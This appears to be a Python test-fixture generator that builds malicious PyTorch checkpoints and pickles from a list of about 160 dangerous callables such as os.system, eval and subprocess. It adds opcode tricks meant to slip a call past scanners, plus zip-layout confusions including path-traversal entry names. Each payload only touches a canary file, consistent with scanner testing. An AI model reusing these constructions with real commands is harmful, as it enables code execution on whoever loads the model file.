"""Writes checkpoints that would run code, hide something, or blow up; every one from a few lines, none from outside.

A program is given as pickle operations, so that it can be put down in protocol 0, 2 and 4. The payload of every
gadget would create the canary file.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from collections.abc import Iterator

# Callables of the gadget classes: shells, evaluation, imports, attribute walks, files, processes, deferred calls.
GADGETS = [
    "os.system",
    "os.popen",
    "os.execv",
    "os.execvp",
    "os.spawnv",
    "os.posix_spawn",
    "os.remove",
    "os.rename",
    "os.putenv",
    "os.startfile",
    "posix.system",
    "posix.popen",
    "nt.system",
    "subprocess.call",
    "subprocess.run",
    "subprocess.Popen",
    "subprocess.check_output",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "commands.getoutput",
    "builtins.eval",
    "builtins.exec",
    "builtins.compile",
    "builtins.open",
    "builtins.__import__",
    "builtins.input",
    "builtins.breakpoint",
    "builtins.setattr",
    "builtins.delattr",
    "builtins.vars",
    "builtins.globals",
    "builtins.map",
    "builtins.filter",
    "builtins.apply",
    "__builtin__.eval",
    "__builtin__.execfile",
    "__builtin__.file",
    "pkgutil.resolve_name",
    "importlib.import_module",
    "importlib.util.module_from_spec",
    "imp.load_source",
    "runpy.run_path",
    "runpy.run_module",
    "code.interact",
    "code.InteractiveInterpreter",
    "codeop.compile_command",
    "timeit.timeit",
    "timeit.main",
    "profile.run",
    "profile.runctx",
    "cProfile.run",
    "cProfile.runctx",
    "trace.Trace",
    "pdb.run",
    "pdb.runeval",
    "bdb.Bdb",
    "doctest.debug_script",
    "unittest.mock.patch",
    "webbrowser.open",
    "pty.spawn",
    "platform.popen",
    "shutil.rmtree",
    "shutil.copyfile",
    "tempfile.mktemp",
    "multiprocessing.util.spawnv_passfds",
    "multiprocessing.process.BaseProcess",
    "asyncio.create_subprocess_shell",
    "asyncio.unix_events._UnixSubprocessTransport",
    "concurrent.futures.ThreadPoolExecutor",
    "threading.Thread",
    "threading.Timer",
    "_thread.start_new_thread",
    "signal.signal",
    "atexit.register",
    "sched.scheduler",
    "operator.attrgetter",
    "operator.methodcaller",
    "operator.itemgetter",
    "functools.reduce",
    "functools.partialmethod",
    "itertools.starmap",
    "types.FunctionType",
    "types.CodeType",
    "types.MethodType",
    "types.ModuleType",
    "marshal.loads",
    "pickle.loads",
    "pickle.load",
    "_pickle.loads",
    "shelve.open",
    "dbm.open",
    "ctypes.CDLL",
    "ctypes.cdll.LoadLibrary",
    "cffi.FFI",
    "socket.socket",
    "socket.create_connection",
    "urllib.request.urlopen",
    "http.client.HTTPConnection",
    "ftplib.FTP",
    "smtplib.SMTP",
    "telnetlib.Telnet",
    "ssl.get_server_certificate",
    "logging.config.dictConfig",
    "logging.config.fileConfig",
    "venv.create",
    "ensurepip.bootstrap",
    "zipimport.zipimporter",
    "site.addsitedir",
    "distutils.file_util.write_file",
    "distutils.spawn.spawn",
    "pydoc.pipepager",
    "pydoc.locate",
    "idlelib.run.Executive",
    "idlelib.pyshell.ModifiedInterpreter.runcommand",
    "lib2to3.pgen2.pgen.ParserGenerator",
    "pip.main",
    "pip._internal.cli.main.main",
    "setuptools.sandbox.run_setup",
    "cloudpickle.loads",
    "dill.loads",
    "joblib.load",
    "IPython.utils.process.system",
    "numpy.testing._private.utils.runstring",
    "numpy.f2py.crackfortran.myeval",
    "numpy.load",
    "torch.hub.load",
    "torch.load",
    "torch.jit.load",
    "torch.jit.unsupported_tensor_ops.execWrapper",
    "torch.package.PackageImporter",
    "torch.utils.cpp_extension.load_inline",
    "torch.utils.collect_env.run",
    "torch._dynamo.guards.GuardBuilder.get",
    "torch.utils._config_module.load_config",
    "torch.utils.data.datapipes.utils.decoder.basichandlers",
    "torch.fx._symbolic_trace.wrap",
    "linecache.getlines",
    "sqlite3.connect",
    "tarfile.open",
    "zipfile.ZipFile",
    "gzip.open",
    "bz2.BZ2File",
    "lzma.LZMAFile",
    "mmap.mmap",
    "inspect.getattr_static",
    "sys.setprofile",
    "sys.settrace",
    "sys.addaudithook",
    "sys.modules.__setitem__",
    "gc.get_objects",
    "weakref.finalize",
    "contextlib.ExitStack",
    "string.Formatter.format",
    "xml.sax.parse",
    "readline.write_history_file",
    "getpass.getpass",
    "nturl2path.url2pathname",
]
PROTOCOLS = (0, 2, 4)


def call(name: str, argument: str, *, protocol: int) -> bytes:
    """Return a pickle whose value is {"state_dict": name(argument)}."""
    module, _, function = name.rpartition(".")
    if protocol == 0:
        called = b"c" + f"{module}\n{function}\n".encode() + b"(V" + argument.encode() + b"\ntR"
        return b"(dp0\nVstate_dict\n" + called + b"s."
    by_line, by_stack = b"c" + f"{module}\n{function}\n".encode(), _text(module) + _text(function) + b"\x93"
    named = by_line if protocol == 2 else by_stack
    return _proto(protocol) + b"}" + _text("state_dict") + named + _text(argument) + b"\x85R" + b"s."


def _text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def _proto(protocol: int) -> bytes:
    return b"\x80" + bytes([protocol])


def archive(program: bytes, *, extra: dict[str, bytes] | None = None, compress: bool = False) -> bytes:
    """Return a torch zip file around a pickle."""
    stream = io.BytesIO()
    kind = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    with zipfile.ZipFile(stream, "w", kind) as file:
        for name, content in {"data.pkl": program, "byteorder": b"little", "version": b"3\n", **(extra or {})}.items():
            file.writestr(f"archive/{name}", content)
    return stream.getvalue()


def legacy(program: bytes) -> bytes:
    """Return a file in the layout before torch 1.6 around a pickle."""
    head = [0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}]
    return b"".join(pickle.dumps(value, 2) for value in head) + program + pickle.dumps([], 2)


def gadget_files(canary: str) -> Iterator[tuple[str, bytes]]:
    """Yield every gadget in three protocols, as a zip; every fifth also as a legacy file."""
    argument = f"touch {canary}"
    for number, name in enumerate(GADGETS):
        for protocol in PROTOCOLS:
            program = call(name, argument, protocol=protocol)
            yield f"{name}-{protocol}.pt", archive(program)
            if number % 5 == 0:
                yield f"{name}-{protocol}-legacy.pth", legacy(program)


def opcode_files(canary: str) -> Iterator[tuple[str, bytes]]:
    """Yield programs that reach a call by other ways than GLOBAL and REDUCE, or hide it from a scanner."""
    shell, system = f"touch {canary}".encode(), b"cos\nsystem\n"
    text = _text(shell.decode())
    tricks = {
        "inst": b"(V" + shell + b"\nios\nsystem\n.",
        "obj": b"(" + system + b"V" + shell + b"\no.",
        "newobj": b"\x80\x02" + system + text + b"\x85\x81.",
        "newobj-ex": b"\x80\x04" + system + text + b"\x85}\x92.",
        "pop-hides-call": b"\x80\x02" + system + text + b"\x85R0}.",
        "pop-mark-hides-call": b"\x80\x02(" + system + text + b"\x85R1}.",
        "memo-put-and-get": b"\x80\x02" + system + b"q\x000h\x00" + text + b"\x85R.",
        "memo-put-against-memoize": b"\x80\x04" + _text("os") + b"\x940" + _text("safe") + b"q\x000h\x00"
        + _text("system") + b"\x93" + text + b"\x85R.",
        "memo-overwritten": b"\x80\x02}q\x00" + system + b"q\x000h\x00" + text + b"\x85R.",
        "second-program": b"\x80\x02}." + b"\x80\x02" + system + text + b"\x85R.",
        "frame-lies": b"\x80\x04\x95" + struct.pack("<Q", 3) + b"}.." + system + text + b"\x85R.",
        "frame-too-long": b"\x80\x04\x95" + struct.pack("<Q", 2**40) + system + text + b"\x85R.",
        "build-setstate": b"\x80\x02" + system + b"}" + _text("__setstate__") + system + b"sb.",
        "build-on-dict": b"\x80\x02}" + _text("keys") + system + b"sb.",
        "call-the-result": b"\x80\x02cbuiltins\ngetattr\n" + system + _text("__call__") + b"\x86R" + text + b"\x85R.",
        "dotted-name": b"\x80\x04" + _text("collections") + _text("abc.sys.modules") + b"\x93.",
        "dotted-walk": b"\x80\x04" + _text("torch") + _text("serialization.os.system") + b"\x93" + text + b"\x85R.",
        "submodule-of-plain": b"\x80\x02ctorch.serialization\nos.system\n" + text + b"\x85R.",
        "ordered-dict-as-namespace": b"\x80\x04" + _text("collections") + _text("OrderedDict.__init__.__globals__")
        + b"\x93.",
        "extension-registry": b"\x80\x02\x82\x01.",
        "extension-registry-4": b"\x80\x02\x84\x01\x00\x00\x00.",
        "persistent-text": b"Pos.system\n.",
        "persistent-code": b"\x80\x02(" + _text("storage") + system + _text("0") + _text("cpu") + b"K\x01tQ.",
        "persistent-module": b"\x80\x02(" + _text("module") + system + text + text + b"tQ.",
        "rebuild-from-type": b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(" + system + system + text + b"\x85}tR.",
        "rebuild-from-type-of-eval": b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(cbuiltins\neval\n"
        b"cbuiltins\neval\n" + text + b"\x85}tR.",
        "partial": b"\x80\x02cfunctools\npartial\n" + system + text + b"\x86R)R.",
        "reconstructor": b"\x80\x02ccopyreg\n_reconstructor\n" + system + b"cbuiltins\nobject\nN\x87R.",
        "out-of-band-buffer": b"\x80\x05\x97.",
        "named-by-number": b"\x80\x04K\x01K\x02\x93.",
        "exception-oriented": b"\x80\x02" + system + text + b"\x85Rcnothing_there\nnothing\n.",
        "stack-underflow": b"\x80\x02R" + system + text + b"\x85R.",
        "bytes-as-global": b"\x80\x04C\x02osC\x06system\x93" + text + b"\x85R.",
        "nested-getattr": b"\x80\x02cbuiltins\ngetattr\ncbuiltins\n__import__\n" + _text("os") + b"\x85R" + text
        + b"\x86R.",
    }  # fmt: skip
    for name, program in tricks.items():
        yield f"{name}.pt", archive(program)
        yield f"{name}-legacy.pth", legacy(program)
        yield f"{name}-bare.pkl", program


def layout_files(canary: str) -> Iterator[tuple[str, bytes]]:
    """Yield archives that different readers take for different programs."""
    plain, evil = pickle.dumps({"w": 1}, 2), call("os.system", f"touch {canary}", protocol=2)
    good = archive(plain)
    yield "program-twice.pt", _twice(plain, evil)
    yield "program-twice-other-order.pt", _twice(evil, plain)
    yield "prefixed.pt", b"MZ" + good
    yield "archive-in-front.pt", archive(evil) + good
    yield "archive-behind.pt", good + archive(evil)
    yield "commented.pt", good[:-2] + struct.pack("<H", len(evil)) + evil
    yield "deflated.pt", archive(evil, compress=True)
    escaping = ("../data.pkl", "/etc/passwd", "..\\x", "a/../../b", "data/0/../../../x")
    for number, name in enumerate(escaping):
        yield f"escaping-{number}.pt", archive(plain, extra={name: b"x"})
    yield "program-in-data.pt", archive(plain, extra={"data/../data.pkl": evil})
    for name in ("constants.pkl", "code/__torch__.py", "extra/x"):
        yield f"script-{name[:4]}.pt", archive(plain, extra={name: evil})
    for flag in (0x1, 0x40, 0x2000):
        yield f"flag-{flag:x}.pt", _patch_central(good, 8, struct.pack("<H", flag))
    yield "central-name.pt", good.replace(b"archive/data.pkl", b"archive/datb.pkl", 1)
    yield "local-name.pt", _replace_last(good, b"archive/data.pkl", b"archive/datb.pkl")
    yield "bad-crc.pt", _patch_central(good, 16, b"\1\2\3\4")
    yield "method-99.pt", _patch_central(good, 10, struct.pack("<H", 99))
    yield "size-larger.pt", _patch_central(good, 24, struct.pack("<I", 2**31))
    yield "offset-elsewhere.pt", _patch_central(good, 42, struct.pack("<I", 30))
    yield "big-endian.pt", archive(plain, extra={"byteorder": b"big"})
    yield "no-program.pt", archive(plain).replace(b"data.pkl", b"data.txt")
    yield "two-folders.pt", archive(plain).replace(b"archive/version", b"brchive/version")


def _twice(first: bytes, second: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as file:
        file.writestr("archive/data.pkl", first)
        file.writestr("archive/data.pkm", second)
    return stream.getvalue().replace(b"data.pkm", b"data.pkl")


def _patch_central(data: bytes, offset: int, value: bytes) -> bytes:
    """Overwrite a field of the first entry of the central directory."""
    at = data.index(b"PK\x01\x02") + offset
    return data[:at] + value + data[at + len(value) :]


def _replace_last(data: bytes, old: bytes, new: bytes) -> bytes:
    head, _, tail = data.rpartition(old)
    return head + new + tail
